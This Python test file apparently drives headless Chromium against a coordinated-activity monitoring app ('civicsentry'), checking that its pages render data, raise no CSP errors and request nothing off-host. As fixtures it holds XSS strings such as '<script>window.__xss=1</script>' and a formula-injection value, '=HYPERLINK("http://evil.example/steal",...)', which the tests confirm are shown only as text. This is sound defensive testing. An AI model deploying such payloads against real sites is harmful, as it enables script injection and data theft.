"""Every page in a real headless Chromium (Debian's chromium + chromedriver, driven by
Selenium), against the app served by uvicorn on a loopback port: log in, triage an
alert, open its cluster, see the network drawn, download the report; every page renders
its data, runs no injected script, breaks no CSP rule, and requests nothing from
anywhere but the app. Screenshots of the pages go to build/screenshots/."""

from __future__ import annotations

import json
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from civicsentry.web.app import create_app

from .scenario import CLUSTER_SIZE, HOSTILE_HANDLE, PASSWORD, POSTS

CHROMIUM, DRIVER = Path("/usr/bin/chromium"), Path("/usr/bin/chromedriver")
SHOTS = Path(__file__).resolve().parents[2] / "build" / "screenshots"
pytestmark = pytest.mark.skipif(
    not (CHROMIUM.exists() and DRIVER.exists()),
    reason="needs Debian's chromium and chromium-driver (`make setup` installs them)",
)


@pytest.fixture(scope="module")
def base_url(ws_path: Path) -> Iterator[str]:
    """The app served by uvicorn in a thread on a free loopback port."""
    import uvicorn

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(create_app(ws_path), host="127.0.0.1", port=port, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(timeout=10)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    profile = tempfile.mkdtemp(prefix="civicsentry-chromium-")
    downloads = Path(profile) / "downloads"
    downloads.mkdir()
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for arg in (
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={profile}",
        "--window-size=1280,1000",
    ):
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    driver = webdriver.Chrome(service=Service(str(DRIVER)), options=options)
    driver.execute_cdp_cmd(
        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)}
    )
    driver.downloads = downloads
    SHOTS.mkdir(parents=True, exist_ok=True)
    yield driver
    driver.quit()
    shutil.rmtree(profile, ignore_errors=True)


def problems(driver: Any, base_url: str) -> list[str]:
    """Console errors (CSP violations and JS errors are logged there), requests to any
    other host, requests for what an injected tag would fetch, and injected globals."""
    out = [e["message"] for e in driver.get_log("browser") if e["level"] == "SEVERE"]
    host = urlsplit(base_url).netloc
    for entry in driver.get_log("performance"):
        msg = json.loads(entry["message"])["message"]
        if msg["method"] != "Network.requestWillBeSent":
            continue
        url = msg["params"]["request"]["url"]
        parts = urlsplit(url)
        if parts.scheme in ("data", "chrome", "chrome-untrusted", "about", "devtools"):
            continue  # the browser's own pages (its start page), not the network
        if parts.netloc != host or parts.path in ("/x", "/undefined"):
            out.append(f"request to {url}")
    if driver.execute_script("return window.__xss !== undefined"):
        out.append("an injected script ran")
    return out


def visit(driver: Any, base_url: str, path: str, shot: str | None = None) -> None:
    driver.get(base_url + path)
    if shot:
        driver.save_screenshot(str(SHOTS / f"{shot}.png"))


def text(driver: Any, css: str) -> str:
    from selenium.webdriver.common.by import By

    return str(driver.find_element(By.CSS_SELECTOR, css).text)


def wait_for(driver: Any, script: str, timeout: float = 20) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = driver.execute_script(script)
        if value:
            return value
        time.sleep(0.05)
    raise AssertionError(f"timed out waiting for: {script}")


def log_in(driver: Any, base_url: str, username: str) -> None:
    from selenium.webdriver.common.by import By

    driver.delete_all_cookies()
    visit(driver, base_url, "/", "login")
    assert driver.find_element(By.ID, "login-form")
    driver.find_element(By.ID, "username").send_keys(username)
    driver.find_element(By.ID, "password").send_keys(PASSWORD)
    driver.find_element(By.ID, "login-button").click()
    wait_for(driver, "return !document.getElementById('login-form')")
    # The anonymous first visit answered 401 (with the form): the only expected complaint.
    found = problems(driver, base_url)
    assert all("status of 401" in p for p in found), found


def test_triage_an_alert_open_its_cluster_and_export_a_report(browser: Any, base_url: str) -> None:
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    driver = browser
    log_in(driver, base_url, "ana")
    driver.save_screenshot(str(SHOTS / "overview.png"))
    assert f"{POSTS}\nposts" in text(driver, "#stats")
    assert driver.find_elements(By.CSS_SELECTOR, "#volume-chart svg polyline")
    driver.find_element(By.LINK_TEXT, "Alerts").click()
    wait_for(driver, "return location.pathname === '/alerts'")
    driver.save_screenshot(str(SHOTS / "alerts.png"))
    driver.find_element(By.CSS_SELECTOR, 'a.alert-link[href="/alerts/1"]').click()
    wait_for(driver, "return location.pathname === '/alerts/1'")
    assert text(driver, "#alert-status") == "new"
    assert "<script>window.__xss=1</script>" in text(driver, "#alert-title")  # shown as text
    Select(driver.find_element(By.ID, "triage-status")).select_by_value("triaged")
    driver.find_element(By.ID, "triage-note").send_keys("looks coordinated")
    driver.find_element(By.ID, "triage-button").click()
    wait_for(
        driver,
        "const s = document.getElementById('alert-status');return s && s.textContent === 'triaged'",
    )
    assert "looks coordinated" in text(driver, "#events")
    driver.save_screenshot(str(SHOTS / "alert.png"))
    driver.find_element(By.ID, "alert-cluster").click()
    wait_for(driver, "return location.pathname === '/clusters/1'")
    # the network: the layout settles and every node is drawn on the canvas
    wait_for(driver, "return document.getElementById('network').dataset.settled")
    canvas = driver.find_element(By.ID, "network")
    assert canvas.get_attribute("data-drawn-nodes") == str(CLUSTER_SIZE)
    assert canvas.get_attribute("data-drawn-edges") == "6"
    # every member co-acted on all its actions (share 1.0): drawn red, rgb(220, 38, 38)
    red = driver.execute_script(
        """const c = document.getElementById('network'); const d = c.getContext('2d')
             .getImageData(0, 0, c.width, c.height).data; let n = 0;
           for (let i = 0; i < d.length; i += 4) {
             if (d[i] > 180 && d[i + 1] < 90 && d[i + 2] < 90) n++; }
           return n;"""
    )
    assert red > 50
    x, y = (int(v) for v in canvas.get_attribute("data-probe").split(","))
    size = canvas.size
    ActionChains(driver).move_to_element_with_offset(
        canvas, x - size["width"] // 2, y - size["height"] // 2
    ).perform()
    wait_for(driver, "return !document.getElementById('network-tip').hidden")
    assert "strength" in text(driver, "#network-tip")
    driver.save_screenshot(str(SHOTS / "cluster.png"))
    driver.find_element(By.ID, "report-button").click()
    report = _wait_for_file(driver.downloads, "civicsentry-cluster-1.html")
    html = report.read_text(encoding="utf-8")
    assert "Incident report: coordinated cluster 1" in html and html.count('class="node"') == 4
    found = problems(driver, base_url)
    assert not found, "\n".join(found)


def _wait_for_file(folder: Path, name: str, timeout: float = 20) -> Path:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        path = folder / name
        if path.exists() and path.stat().st_size > 0:
            return path
        time.sleep(0.05)
    raise AssertionError(f"{name} was not downloaded: {list(folder.iterdir())}")


#: Every analyst page with a selector that holds its data and the text it must show.
PAGES = [
    ("/", "#top-clusters", f"{CLUSTER_SIZE}", "overview"),
    ("/alerts", "#alerts", "Account burst", "alerts"),
    ("/alerts/2", "#evidence", "x:o2", "alert-2"),
    ("/clusters", "#clusters", "repost 6", "clusters"),
    ("/clusters/1", "#members", "x:c1", "cluster"),
    ("/accounts", "#accounts", "c1_bot", "accounts"),
    ("/accounts/x:c2", "#account-name", HOSTILE_HANDLE, "account"),
    ("/accounts/x:c1", "#signals", "coordinated_share", "account-signals"),
    ("/search?q=vote", "#results", "window.__xss=1", "search"),
    ("/narratives", "#narratives", "window.__xss=6", "narratives"),
    ("/narratives/1", "#narrative-posts", "vote early", "narrative"),
    ("/claims", "#claims", "shredded", "claims"),
    ("/sharing", "#shared", "cluster 1 of run 1", "sharing"),
    ("/me/tokens", "#tokens", "no tokens", "tokens"),
    ("/api/docs", "#operations", "/api/alerts", "api-docs"),
]
ADMIN_PAGES = [
    ("/admin/users", "#users", "olga", "users"),
    ("/admin/audit", "#audit", "login", "audit"),
    ("/admin/privacy", "#policy", "without limit", "privacy"),
]


def test_every_page_renders_its_data_and_nothing_hostile_runs(browser: Any, base_url: str) -> None:
    log_in(browser, base_url, "admin")
    for path, css, expected, shot in PAGES + ADMIN_PAGES:
        visit(browser, base_url, path, shot)
        assert expected in text(browser, css), path
        found = problems(browser, base_url)
        assert not found, f"{path}: " + "\n".join(found)
    # the hostile handle and post text are shown literally on the account page
    visit(browser, base_url, "/accounts/x:c2")
    body = text(browser, "main")
    assert "<script>window.__xss=1</script><img src=x onerror=" in body
    assert '=HYPERLINK("http://evil.example/steal","click me")' in body
    assert not browser.find_elements(
        "css selector", "main img, main iframe, main a[href^='http'], main a[href^='javascript']"
    )


def test_partner_sees_only_the_sharing_view(browser: Any, base_url: str) -> None:
    log_in(browser, base_url, "pat")
    assert "cluster 1 of run 1" in text(browser, "#shared")
    nav = [a.text for a in browser.find_elements("css selector", "header nav a")]
    assert nav == ["Sharing", "API tokens"]
    visit(browser, base_url, "/clusters/1?run_id=1", "partner-cluster")
    wait_for(browser, "return document.getElementById('network').dataset.settled")
    assert browser.find_element("id", "network").get_attribute("data-drawn-nodes") == "4"
    assert not browser.find_elements("id", "report-button")
    found = problems(browser, base_url)
    assert not found, "\n".join(found)
    visit(browser, base_url, "/alerts/1")
    assert "404" in text(browser, "h1")
